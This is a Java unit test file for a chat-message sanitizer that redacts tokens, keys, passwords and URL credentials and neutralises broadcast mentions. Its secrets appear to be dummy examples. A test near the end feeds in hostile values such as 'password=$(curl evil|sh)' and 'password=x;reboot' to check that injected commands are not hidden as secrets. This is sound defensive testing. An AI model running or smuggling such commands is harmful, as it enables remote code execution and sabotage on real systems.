package dev.townhall.core.chat;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class SanitizerTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "xoxb-123456789012-abcdefABCDEF",
                "xapp-1-A0123-456-abcdef0123456789",
                "syt_YWRh_abcdefghijklmnop_0a1b2c",
                "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
                "gho_0123456789abcdefghijklmnopqrstuvwxyz",
                "github_pat_11ABCDEFG0123456789abcdefghijklmnop",
                "AKIAIOSFODNN7EXAMPLE",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
                "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----",
                "kV9xQ2mZ7pL4tR8wB3nY6cD1fG5hJ0sA",
            })
    void aSecretIsTakenOut(String secret) {
        String out = Sanitizer.code("before " + secret + " after");

        assertThat(out).isEqualTo("before [secret removed] after");
    }

    @Test
    void theValueOfASecretSettingIsTakenOut() {
        assertThat(
                        Sanitizer.code(
                                "PASSWORD=hunter22 api_key=\"abc123\" Authorization: Bearer abcdefgh1234"))
                .isEqualTo(
                        "PASSWORD=[secret removed] api_key=\"[secret removed]\" Authorization: Bearer [secret removed]");
        assertThat(Sanitizer.code("https://ada:s3cret@example.org/x"))
                .isEqualTo("https://ada:[secret removed]@example.org/x");
    }

    @Test
    void aTokenBrokenOverTwoLinesIsTakenOut() {
        String out = Sanitizer.code("token ghp_0123456789abcdefgh\n   ijklmnopqrstuvwxyz and more");

        assertThat(out).isEqualTo("token [secret removed] and more");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "0123456789abcdef0123456789abcdef01234567",
                "src/main/java/dev/townhall/core/chat/SanitizerHidesWhatIsSecretTest.java",
                "a password is needed",
                "https://example.org:8080/path",
                "aVeryLongIdentifierNameThatGoesOnAndOnForever",
                "--------------------------------------------",
            })
    void whatIsNoSecretStays(String text) {
        assertThat(Sanitizer.code(text)).isEqualTo(text);
    }

    @Test
    void secretsAreTakenOutBeforeTheTextIsCut() {
        String text =
                "x".repeat(Sanitizer.LINE_CHARS_MAX - 10)
                        + " ghp_0123456789abcdefghijklmnopqrstuvwxyz";

        assertThat(Sanitizer.line(text)).doesNotContain("ghp_").hasSizeLessThanOrEqualTo(600);
    }

    @Test
    void mentionsOfEverybodyAreMadeHarmless() {
        assertThat(Sanitizer.text("@everyone @Here <!channel> <!subteam^S1> ada@hereford.org"))
                .isEqualTo("＠everyone ＠Here ‹!channel> ‹!subteam^S1> ada@hereford.org");
    }

    @Test
    void aCommandIsKeptAsItWouldRunUntilItLeavesForANetwork() {
        Card card =
                new Card(
                        "",
                        Card.Tone.PLAIN,
                        java.util.List.of(),
                        java.util.Optional.empty(),
                        java.util.List.of(new Card.Code("", "echo '@here' <!channel>")),
                        java.util.List.of(),
                        "");

        assertThat(Sanitizer.card(card)).isEqualTo(card);
        assertThat(PlainText.of(Sanitizer.forNetwork(card))).doesNotContain("@here", "<!channel");
    }

    @Test
    void aLineIsOneLine() {
        assertThat(Sanitizer.line("a\r\nb\u2028c\td")).isEqualTo("a bc d");
    }

    @Test
    void aCutNeverSplitsACharacter() {
        assertThat(Sanitizer.cut("ab\ud83d\ude00cd", 4)).isEqualTo("ab…");
        assertThat(Sanitizer.cut("abcd", 4)).isEqualTo("abcd");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "password=$(curl evil|sh)",
                "password=x;reboot",
                ": -----BEGIN PRIVATE KEY-----\nreboot\n: -----END PRIVATE KEY-----",
                "echo ghp_0123456789abcdefghijklmnop\nreboot",
            })
    void noCommandHidesBehindWhatLooksLikeASecret(String command) {
        assertThat(Sanitizer.command(command)).containsAnyOf("curl evil|sh", "reboot");
    }

    @Test
    void aSecretInACommandIsTakenOut() {
        assertThat(
                        Sanitizer.command(
                                "curl -H 'Authorization: Bearer abcdefgh1234' token ghp_0123456789abcdefghijklmnopqrstuvwxyz"))
                .isEqualTo(
                        "curl -H 'Authorization: Bearer [secret removed]' token [secret removed]");
    }
}
